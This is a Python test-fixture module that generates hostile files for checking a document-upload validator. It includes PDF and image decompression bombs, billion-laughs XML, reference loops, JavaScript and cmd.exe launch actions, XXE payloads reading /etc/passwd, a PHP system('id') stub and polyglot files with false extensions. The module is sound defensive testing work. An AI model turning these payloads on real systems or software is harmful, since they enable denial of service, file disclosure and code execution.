"""Hostile files, made from nothing but this module: each a name, its bytes, and the reason codes it may end in.

The generator is seeded by its own constants: the same bytes every time.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from typing import Final

import pikepdf
from PIL import Image

TOO_MUCH: Final = frozenset({"document.hostile", "document.too_large"})
ACTIVE: Final = frozenset({"document.active_content"})
WRONG: Final = frozenset({"document.wrong_type"})
DAMAGED: Final = frozenset({"document.unreadable"})
LOCKED: Final = frozenset({"document.encrypted"})
TAMPERED: Final = frozenset({"document.tampered"})
BROKEN: Final = DAMAGED | TOO_MUCH  # a loop or a lie: which of them a parser notices first is its own business
ANYTHING: Final = DAMAGED | TOO_MUCH | frozenset({""})  # garbage in a font or profile may also be read around

CATALOG: Final = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES: Final = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
FONT: Final = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
PAGE: Final = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>"
)
TEXT: Final = b"BT /F1 18 Tf 72 700 Td (This certifies that Erika Mustermann) Tj ET"


@dataclass(frozen=True, slots=True)
class HostileFile:
    """``ends_in``: the codes one of which must be among the defects; an empty string means none is needed."""

    name: str
    data: bytes
    ends_in: frozenset[str]


def stream(body: bytes, entries: bytes = b"", length: int | None = None) -> bytes:
    size = len(body) if length is None else length
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, size, body)


def objects(**changed: bytes) -> dict[int, bytes]:
    """The objects of an honest one-page PDF, with some replaced or added: ``_5=b"..."`` is object 5."""
    honest = {1: CATALOG, 2: PAGES, 3: PAGE, 4: FONT, 5: stream(TEXT)}
    return honest | {int(name[1:]): body for name, body in changed.items()}


def assemble(
    parts: Mapping[int, bytes], trailer: bytes = b"", header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
) -> bytes:
    """A PDF of ``parts`` with a true cross-reference table."""
    out = bytearray(header)
    offsets: dict[int, int] = {}
    for number, body in parts.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    size = max(parts) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 00001 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, xref)
    return bytes(out)


def honest() -> bytes:
    return assemble(objects())


def _page(extra: bytes) -> bytes:
    return PAGE[:-2] + extra + b" >>"


def _catalog(extra: bytes) -> bytes:
    return CATALOG[:-2] + extra + b" >>"


def _saved(change: Callable[[pikepdf.Pdf], None], **options: object) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(honest())) as pdf:
        change(pdf)
        pdf.save(out, **options)  # type: ignore[arg-type]  # options differ from caller to caller
    return out.getvalue()


# -- bombs


def _flate(times: int, size: int) -> bytes:
    data = b"\0" * size
    for _ in range(times):
        data = zlib.compress(data, 9)
    return stream(data, b"/Filter [" + b"/FlateDecode " * times + b"]")


def _laughs(levels: int, fan: int) -> bytes:
    parts = objects(_3=PAGE.replace(b"/Font << /F1 4 0 R >>", b"/XObject << /X 10 0 R >>"), _5=stream(b"/X Do"))
    for level in range(levels):
        last = level == levels - 1
        body = TEXT if last else b"/X Do " * fan
        resources = b"/Font << /F1 4 0 R >>" if last else b"/XObject << /X %d 0 R >>" % (11 + level)
        entries = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << " + resources + b" >>"
        parts[10 + level] = stream(body, entries)
    return assemble(parts)


def _image(entries: bytes, body: bytes) -> bytes:
    drawn = stream(b"q 400 0 0 400 50 50 cm /I Do Q")
    page = PAGE.replace(b"/Font << /F1 4 0 R >>", b"/XObject << /I 6 0 R >>")
    return assemble(objects(_3=page, _5=drawn, _6=stream(body, b"/Type /XObject /Subtype /Image " + entries)))


def _png(width: int, height: int, rows: bytes, *extra: tuple[bytes, bytes]) -> bytes:
    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunks = [(b"IHDR", header), *extra, (b"IDAT", zlib.compress(rows, 9)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunk(*each) for each in chunks)


def _jpeg(width: int = 64, height: int = 64) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), "white").save(out, "JPEG")
    return out.getvalue()


def _jpeg_lying(width: int, height: int) -> bytes:
    data = bytearray(_jpeg())
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def bombs() -> Iterator[HostileFile]:
    def case(name: str, data: bytes, ends_in: frozenset[str] = TOO_MUCH) -> HostileFile:
        return HostileFile(f"bomb_{name}", data, ends_in)

    yield case("flate.pdf", assemble(objects(_5=_flate(1, 200 << 20))))
    yield case("flate_nested.pdf", assemble(objects(_5=_flate(2, 400 << 20))))
    yield case("flate_thrice.pdf", assemble(objects(_5=_flate(3, 400 << 20))))
    yield case("flate_six_filters.pdf", assemble(objects(_5=_flate(6, 1 << 20))))
    many = {number: _flate(1, 40 << 20) for number in range(10, 20)}
    yield case("flate_many_streams.pdf", assemble(objects() | many))
    yield case("flate_orphan.pdf", assemble(objects(_9=_flate(1, 200 << 20))))
    yield case("lzw.pdf", assemble(objects(_5=stream(b"\x80\x0b\x60\x50" * 200_000, b"/Filter /LZWDecode"))))
    yield case("run_length.pdf", assemble(objects(_5=stream(b"\x81\0" * 2_000_000, b"/Filter /RunLengthDecode"))))
    columns = b"/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 2000000000 /Colors 4 >>"
    yield case("predictor_columns.pdf", assemble(objects(_5=stream(zlib.compress(b"\0" * 999), columns))))
    yield case("laughs.pdf", _laughs(30, 10))
    yield case("laughs_shallow.pdf", _laughs(8, 12))
    yield case("deep_arrays.pdf", assemble(objects(_9=b"[" * 400 + b"]" * 400)), BROKEN)
    yield case("deeper_arrays.pdf", assemble(objects(_9=b"[" * 200_000 + b"]" * 200_000)), BROKEN)
    yield case("deep_dictionaries.pdf", assemble(objects(_9=b"<</A" * 400 + b" 1 " + b">>" * 400)), BROKEN)
    huge = b"<< " + b" ".join(b"/K%d %d" % (each, each) for each in range(1_100_000)) + b" >>"
    yield case("huge_dictionary.pdf", assemble(objects(_9=huge))[: 30 << 20], BROKEN)
    yield case("huge_array.pdf", assemble(objects(_9=b"[" + b"0 " * 3_000_000 + b"]")))
    yield case("million_objects.pdf", assemble(objects() | dict.fromkeys(range(10, 200_000), b"0")))
    yield case("ten_thousand_pages.pdf", _many_pages(10_000))
    yield case(
        "image_pixels.pdf", _image(b"/Width 60000 /Height 60000 /ColorSpace /DeviceGray /BitsPerComponent 8", b"x")
    )
    yield case("mediabox.pdf", assemble(objects(_3=PAGE.replace(b"595 842", b"14000000 14000000"))))
    yield case("user_unit.pdf", assemble(objects(_3=_page(b"/UserUnit 75000"))))
    yield case(
        "text.pdf", assemble(objects(_5=stream(b"BT /F1 1 Tf " + b"(aaaaaaaaaaaaaaaaaaaa) Tj " * 50_000 + b"ET")))
    )
    yield case("paths.pdf", assemble(objects(_5=_compressed(b"0 0 m 9 9 l S " * 4_000_000))), BROKEN | frozenset({""}))
    yield case("revisions.pdf", _revised(40), TAMPERED)
    yield case("pixels.png", _png(30_000, 30_000, b"\0" * 1000))
    yield case("inflate.png", _png(7_000, 7_000, b"\0" * (3 * 7_000 + 1) * 7_000), frozenset({""}))
    yield case(
        "text_chunk.png",
        _png(64, 64, b"\0" * 193 * 64, (b"zTXt", b"k\0\0" + zlib.compress(b"\0" * (100 << 20)))),
        ANYTHING,
    )
    yield case(
        "profile.png",
        _png(64, 64, b"\0" * 193 * 64, (b"iCCP", b"k\0\0" + zlib.compress(b"\0" * (100 << 20)))),
        ANYTHING,
    )
    yield case("giant.jpg", _jpeg_lying(65_500, 65_500))
    yield case("tall.jpg", _jpeg_lying(20, 60_000))


def _compressed(body: bytes) -> bytes:
    return stream(zlib.compress(body), b"/Filter /FlateDecode")


def _many_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (10 + each) for each in range(count))
    parts = objects(_2=b"<< /Type /Pages /Count %d /Kids [%s] >>" % (count, kids))
    return assemble(parts | {10 + each: PAGE for each in range(count)})


def _revised(times: int) -> bytes:
    data = honest()
    for turn in range(times):
        data = append(data, {5: stream(TEXT + b" " * turn)})
    return data


def append(data: bytes, parts: Mapping[int, bytes], extra: bytes = b"") -> bytes:
    """``data`` with an incremental update that replaces or adds ``parts``."""
    previous = int(data[data.rindex(b"startxref") + 9 :].split()[0])
    out = bytearray(data)
    table = bytearray(b"xref\n0 1\n0000000000 65535 f \n")
    for number, body in parts.items():
        table += b"%d 1\n%010d 00000 n \n" % (number, len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += table + b"trailer\n<< /Size %d /Root 1 0 R /Prev %d %s >>\n" % (max(max(parts) + 1, 6), previous, extra)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % xref)


# -- loops


def loops() -> Iterator[HostileFile]:
    def case(name: str, data: bytes, ends_in: frozenset[str] = BROKEN) -> HostileFile:
        return HostileFile(f"loop_{name}.pdf", data, ends_in)

    yield case("page_tree", assemble(objects(_2=b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>")))
    yield case(
        "page_tree_long",
        assemble(
            objects(
                _2=b"<< /Type /Pages /Kids [6 0 R] /Count 1 >>",
                _6=b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>",
            )
        ),
    )
    yield case(
        "parents",
        assemble(
            objects(
                _2=b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 2 0 R >>",
                _3=PAGE.replace(b"/MediaBox [0 0 595 842]", b""),
            )
        ),
    )
    yield case("form_draws_itself", assemble(objects(
        _3=PAGE.replace(b"/Font << /F1 4 0 R >>", b"/XObject << /X 6 0 R >>"),
        _5=stream(b"/X Do"),
        _6=stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"),
    )))  # fmt: skip
    data = honest()
    own = int(data[data.rindex(b"startxref") + 9 :].split()[0])
    yield case("prev", assemble(objects(), b"/Prev %d" % own))
    yield case("length", assemble(objects(_5=b"<< /Length 5 0 R >>\nstream\n" + TEXT + b"\nendstream")))
    yield case("reference", assemble(objects(_4=b"6 0 R", _6=b"4 0 R")))
    packed = b"7 0 8 2 1 2"
    yield case(
        "object_stream",
        assemble(objects(_6=stream(packed, b"/Type /ObjStm /N 2 /First 8 /Extends 6 0 R"))),
        BROKEN | frozenset({""}),
    )
    yield case("contents", assemble(objects(_5=b"[5 0 R]")), BROKEN | frozenset({""}))
    outline = b"/Outlines 6 0 R"
    yield case(
        "outlines",
        assemble(
            objects(
                _1=_catalog(outline),
                _6=b"<< /First 7 0 R /Last 7 0 R >>",
                _7=b"<< /Next 7 0 R /Prev 7 0 R /Title (x) >>",
            )
        ),
        frozenset({""}),
    )


# -- actions and attachments


def actions() -> Iterator[HostileFile]:
    def case(name: str, data: bytes) -> HostileFile:
        return HostileFile(f"active_{name}.pdf", data, ACTIVE)

    script = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    yield case("open_action", assemble(objects(_1=_catalog(b"/OpenAction " + script))))
    yield case(
        "names_tree", assemble(objects(_1=_catalog(b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>"), _6=script))
    )
    yield case("page_aa", assemble(objects(_3=_page(b"/AA << /O " + script + b" >>"))))
    yield case(
        "annotation",
        assemble(objects(_3=_page(b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A " + script + b" >>]"))),
    )
    yield case("hex_names", assemble(objects(_1=_catalog(b"/OpenAction << /#53 /J#61vaScript /J#53 (x) >>"))))
    yield case(
        "script_in_stream",
        assemble(objects(_1=_catalog(b"/OpenAction << /S /JavaScript /JS 6 0 R >>"), _6=stream(b"app.alert(1)"))),
    )
    yield case(
        "chained", assemble(objects(_1=_catalog(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next " + script + b" >>")))
    )
    yield case("orphan", assemble(objects(_9=script)))
    launch = b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"
    yield case("launch", assemble(objects(_1=_catalog(b"/OpenAction " + launch))))
    yield case(
        "goto_r",
        assemble(objects(_1=_catalog(b"/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\share\\\\x.pdf) /D [0 /Fit] >>"))),
    )
    yield case("submit", assemble(objects(_1=_catalog(b"/OpenAction << /S /SubmitForm /F (http://192.0.2.1/) >>"))))
    yield case(
        "uri_script", assemble(objects(_1=_catalog(b"/OpenAction << /S /URI /URI (javascript:alert\\(1\\)) >>")))
    )
    yield case("uri_file", assemble(objects(_1=_catalog(b"/OpenAction << /S /URI /URI (file:///etc/passwd) >>"))))
    yield case("external_stream", assemble(objects(_5=b"<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream")))
    form = b"/AcroForm << /Fields [] /XFA 6 0 R >>"
    xdp = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xdp>&e;</xdp>'
    yield case("xfa_xxe", assemble(objects(_1=_catalog(form), _6=stream(xdp))))
    media = b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"
    yield case("rich_media", assemble(objects(_3=_page(media))))
    yield case("embedded_exe", _saved(lambda pdf: _attach(pdf, "invoice.exe", b"MZ\x90\0" + b"\0" * 64)))
    yield case("attachment", _saved(lambda pdf: _attach(pdf, "notes.txt", b"notes")))
    file_annotation = b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (x.exe) >> >>]"
    yield case("file_annotation", assemble(objects(_3=_page(file_annotation))))

    def hide(pdf: pikepdf.Pdf) -> None:
        action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        pdf.Root.OpenAction = pdf.make_indirect(action)

    yield case("object_stream", _saved(hide, object_stream_mode=pikepdf.ObjectStreamMode.generate))


def _attach(pdf: pikepdf.Pdf, name: str, content: bytes) -> None:
    pdf.attachments[name] = pikepdf.AttachedFileSpec(pdf, content, filename=name)


# -- lies, damage, encryption, wrong names


def lies() -> Iterator[HostileFile]:
    def case(name: str, data: bytes, ends_in: frozenset[str] = BROKEN) -> HostileFile:
        return HostileFile(f"lie_{name}.pdf", data, ends_in)

    yield case("length_long", assemble(objects(_5=stream(TEXT, length=1 << 30))))
    yield case("length_short", assemble(objects(_5=stream(TEXT, length=3))))
    yield case("length_negative", assemble(objects(_5=stream(TEXT, length=-1))))
    yield case("xref_offset", honest().replace(b"startxref\n", b"startxref\n9"))
    yield case("xref_entries", honest().replace(b"00000 n \n", b"00007 n \n"), ANYTHING)
    yield case("size", honest().replace(b"/Size 6", b"/Size 2147483647"), BROKEN | frozenset({""}))
    yield case(
        "count", assemble(objects(_2=b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>")), BROKEN | frozenset({""})
    )
    yield case("no_pages", assemble(objects(_2=b"<< /Type /Pages /Kids [] /Count 0 >>")))
    yield case("no_root", honest().replace(b"/Root 1 0 R", b"/Root 99 0 R"))
    yield case("mediabox_nan", assemble(objects(_3=PAGE.replace(b"595 842", b"/x (y)"))))
    yield case("mediabox_zero", assemble(objects(_3=PAGE.replace(b"595 842", b"0 0"))))
    yield case("kids_are_numbers", assemble(objects(_2=b"<< /Type /Pages /Kids [1 2 3] /Count 3 >>")))
    yield case("page_is_a_font", assemble(objects(_2=b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>")), ANYTHING)
    yield case("just_a_header", b"%PDF-1.7\n%%EOF\n")
    garbage = bytes((each * 193 + 71) % 256 for each in range(4096))
    font = b"<< /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor 6 0 R /FirstChar 0 /LastChar 255 "
    font += b"/Widths [%s] >>"
    described = b"<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile2 7 0 R >>"
    widths = b" ".join([b"500"] * 256)
    yield case("font_garbage", assemble(objects(_4=font % widths, _6=described, _7=stream(garbage))), ANYTHING)
    icc = b"/Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace [/ICCBased 7 0 R]"
    pdf = _image(icc, b"\0" * 243)
    yield case("icc_garbage", pdf.replace(b"[/ICCBased 7 0 R]", b"[/ICCBased 6 0 R]"), ANYTHING)
    for name in (b"JBIG2Decode", b"JPXDecode", b"DCTDecode", b"CCITTFaxDecode"):
        entries = b"/Width 999 /Height 999 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /" + name
        yield case(f"{name.decode().lower()}_garbage", _image(entries, garbage), ANYTHING)


def damaged() -> Iterator[HostileFile]:
    whole = honest()
    for part in (5, 9, 50, len(whole) // 3, len(whole) // 2, len(whole) - 20, len(whole) - 6):
        yield HostileFile(f"cut_{part}.pdf", whole[:part], DAMAGED)
    picture = _jpeg(400, 400)
    for part in (4, 100, len(picture) - 2):
        yield HostileFile(f"cut_{part}.jpg", picture[:part], DAMAGED)
    png = _png(64, 64, b"\0" * 193 * 64)
    for part in (9, 40, len(png) - 13):
        yield HostileFile(f"cut_{part}.png", png[:part], DAMAGED)
    yield HostileFile("short_pixels.png", _png(64, 64, b"\0" * 100), DAMAGED)
    for name, owner, user in (("user", "o", "secret"), ("owner", "o", "")):
        encryption = pikepdf.Encryption(owner=owner, user=user)
        yield HostileFile(f"encrypted_{name}.pdf", _saved(lambda _pdf: None, encryption=encryption), LOCKED)
    covered = b"1 1 1 rg 60 690 500 40 re f BT 0 g /F1 18 Tf 72 700 Td (This certifies that Mallory Evil) Tj ET"
    yield HostileFile("appended_text.pdf", append(whole, {5: stream(TEXT + b" " + covered)}), TAMPERED)
    yield HostileFile("replaced_text.pdf", append(whole, {5: stream(TEXT.replace(b"Erika", b"Clara"))}), TAMPERED)


def wrong_names() -> Iterator[HostileFile]:
    def case(name: str, data: bytes) -> HostileFile:
        return HostileFile(name, data, WRONG)

    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("x.js", "alert(1)")
    zip_bytes = archive.getvalue()
    whole = honest()
    yield case("zero.png", b"")
    yield case("pdf_named.png", whole)
    yield case("png_named.pdf", _png(64, 64, b"\0" * 193 * 64))
    yield case("exe_named.pdf", b"MZ\x90\0" + b"\0" * 200)
    yield case("elf_named.jpg", b"\x7fELF" + b"\0" * 200)
    yield case("zip_named.pdf", zip_bytes)
    yield case("html_named.pdf", b"<!doctype html><script>alert(1)</script>")
    yield case("php_named.png", b"<?php system('id'); ?>")
    yield case("gif_js_named.jpg", b"GIF89a/*" + b"\0" * 64 + b"*/=1;alert(1)")
    yield case("tiff_named.png", b"II*\0" + b"\0" * 64)
    yield case("script_named.pdf", b"#!/bin/sh\nid\n")
    yield case("pdf_named.exe", whole)
    yield case("pdf_named.pdf.html", whole)
    yield case("no_ending", whole)
    yield case("late_header.pdf", b"\n" + whole)
    yield case("zip_before.pdf", zip_bytes + whole)
    yield case("zip_after.pdf", whole + zip_bytes)
    yield case("zip_around.pdf", _zip_around())
    yield case("html_after.pdf", whole + b"<html><script>alert(1)</script></html>")
    yield case("html_in_header.pdf", assemble(objects(), header=b"%PDF-1.7\n%<html><script>alert(1)</script>\n"))
    yield case("zip_after.png", _png(64, 64, b"\0" * 193 * 64) + zip_bytes)
    yield case("zip_after.jpg", _jpeg() + zip_bytes)
    yield case("html_after.jpg", _jpeg() + b"<script>alert(1)</script>")
    yield case("svg.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
    yield case("xxe.svg", b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg>&e;</svg>')
    yield case("laughs.svg", _xml_laughs())
    yield case("deep.json", b'{"a":' * 100_000 + b"1" + b"}" * 100_000)


def _zip_around() -> bytes:
    """A PDF whose end is the comment of a ZIP directory that began inside it."""
    data = honest()
    at = data.rindex(b"xref\n0")
    directory = b"%" + b"PK\x05\x06" + b"\0" * 16
    rest = data[at:].replace(b"startxref\n%d" % at, b"startxref\n%d" % (at + len(directory) + 3))
    return data[:at] + directory + struct.pack("<H", len(rest) + 1) + b"\n" + rest


def _xml_laughs() -> bytes:
    entities = b'<!ENTITY a0 "ha">' + b"".join(
        b'<!ENTITY a%d "%s">' % (i, b"&a%d;" % (i - 1) * 10) for i in range(1, 10)
    )
    return b'<?xml version="1.0"?><!DOCTYPE svg [' + entities + b"]><svg>&a9;</svg>"


FAMILIES: Final = (bombs, loops, actions, lies, damaged, wrong_names)
